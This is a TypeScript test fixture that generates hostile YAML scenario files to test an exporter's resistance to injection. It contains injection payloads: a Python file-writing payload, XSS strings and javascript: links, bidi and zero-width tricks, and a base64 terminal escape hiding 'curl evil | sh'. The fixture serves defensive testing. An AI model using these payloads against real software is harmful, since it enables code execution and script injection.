/**
 * Hostile scenario files: titles, descriptions, notes and file names that try
 * to become code in an exported script, markup in the handout, structure in
 * DOT or Mermaid, or a command to the terminal. Each trick is the text of one
 * file's title, note and (after a literal backslash-n payload, the issue's)
 * description; a few more are file names.
 */

import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';

/** What a trick that worked would run: it writes a file where the script runs. */
export const PAYLOAD = 'open("PWNED","w").write("1")';

export const TRICKS: [string, string][] = [
  ['coding in the title (issue 21)', 'Lesson  coding: unicode_escape'],
  ["Emacs's coding line", '-*- coding: unicode_escape -*-'],
  ["Vim's fileencoding", 'vim: set fileencoding=unicode_escape :'],
  ['coding=', 'coding=unicode_escape'],
  ['a line feed', `x\n${PAYLOAD}`],
  ['a lone carriage return', `x\r${PAYLOAD}`],
  ['CR LF', `x\r\n${PAYLOAD}`],
  ['U+2028 and U+2029', `x\u2028${PAYLOAD}\u2029${PAYLOAD}`],
  ['NEL, VT and FF', `x\u0085${PAYLOAD}\u000b${PAYLOAD}\u000c${PAYLOAD}`],
  ['triple quotes', `"""; ${PAYLOAD}; """ '''; ${PAYLOAD}; '''`],
  ['a string break', `"); ${PAYLOAD}; ("`],
  ['a trailing backslash', 'ends in a backslash\\'],
  ['bidi controls', `admin\u202e } \u2066if\u2069 \u2067\u2068\u202a\u202b\u202c\u202d \u200e\u200f\u061c`],
  ['zero-width characters', 'a\u200bb\u200cc\u200dd\u2060e\ufefff'],
  ['a lone surrogate', 'a\ud800b\udc00c'],
  ['terminal escapes', '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u009b31m'],
  ['HTML', '<img src=x onerror=alert(1)><script>alert(1)</script><!-- x -->'],
  ['links', '[click](javascript:alert(1)) <http://evil.example> [ref]: http://evil.example'],
  ['an image', '![x](http://evil.example/x.png)'],
  ['fences', '```\n~~~\n````python'],
  ['directives and attributes', ':::danger\n::leaf[x]{#id}\n:text[x] {#id .class onclick="x"}'],
  ['entities and math', '&lt;script&gt; &#60; $x$ $$y$$'],
  ['line starts', '# h\n- item\n> quote\n1. one\n---'],
  ['a Mermaid directive', '%%{init: {"securityLevel": "loose"}}%%'],
  ['DOT structure', '"]; n0 [label="x \\N \\l { a | b } <p>'],
];

/** File names: the id is written into every export. */
export const FILE_NAMES: string[] = [
  'coding=unicode_escape',
  '-*- coding: unicode_escape -*-',
  `line\nbreak`,
  'carriage\rreturn',
  '\u202eyaml.txt',
  `q"uote'`,
  'back\\slash',
  '<img src=x onerror=alert(1)>',
  '[a](javascript:alert(1))',
];

/** A YAML double-quoted string that reads back as exactly `text`: only printable ASCII in the file. */
export function yamlString(text: string): string {
  let out = '"';
  for (let i = 0; i < text.length; i++) {
    const code = text.charCodeAt(i);
    if (text[i] === '"' || text[i] === '\\') out += `\\${text[i]}`;
    else if (code >= 0x20 && code < 0x7f) out += text[i];
    else out += `\\u${code.toString(16).padStart(4, '0')}`;
  }
  return `${out}"`;
}

/** A small scenario with a param, data, a power and a function, carrying `trick` everywhere text goes. */
export function hostileScenario(trick: string): string {
  return [
    `title: ${yamlString(trick)}`,
    `description: ${yamlString(`${trick} x \\n${PAYLOAD}\\n#`)}`,
    'inputs:',
    '  x: 2',
    '  w: -0.5',
    '  b: 0.25',
    'params: [w, b]',
    'nodes:',
    '  n: x * w + b',
    '  o: tanh(n) ^ 2',
    'notes:',
    `  n: ${yamlString(trick)}`,
    `  o: ${yamlString(`${trick}  in  columns`)}`,
    '',
  ].join('\n');
}

export interface HostileFile {
  name: string;
  file: string;
  trick: string;
  /**
   * The same file with every punctuation mark of the trick a letter: the same lines, spaces and
   * words, so its handout has the same blocks unless the punctuation became markup.
   */
  baseline: string;
}

/** Every punctuation mark a letter, but a `- ` or `* ` that starts a line, which the lesson itself reads as a bullet. */
const defang = (text: string) =>
  text.replace(/[^\s\w]/g, (ch, at: number) => (/^[-*] /.test(text.slice(at, at + 2)) && (at === 0 || text[at - 1] === '\n') ? ch : 'x'));

/** Writes every hostile file into `dir`: one per trick, and one per file name carrying the issue's description. */
export function writeCorpus(dir: string): HostileFile[] {
  mkdirSync(join(dir, 'baseline'), { recursive: true });
  const files = TRICKS.map(([name, trick], k): HostileFile => {
    const file = join(dir, `trick-${k}.yaml`);
    const baseline = join(dir, 'baseline', `trick-${k}.yaml`);
    writeFileSync(file, hostileScenario(trick));
    writeFileSync(baseline, hostileScenario(defang(trick)));
    return { name, file, trick, baseline };
  });
  for (const base of FILE_NAMES) {
    const file = join(dir, `${base}.yaml`);
    const baseline = join(dir, 'baseline', `${defang(base)}.yaml`);
    writeFileSync(file, hostileScenario('Plain title'));
    writeFileSync(baseline, hostileScenario('Plain title'));
    files.push({ name: `the file name ${JSON.stringify(base)}`, file, trick: base, baseline });
  }
  return files;
}

/** Names a node cannot have: the loader refuses each in one sentence, so none reaches an export. */
export const NODE_NAMES: string[] = ['a\u202e', 'b"', 'c\nd', 'e\u200b', 'f-g', '__proto__', 'coding:x', '<b>'];
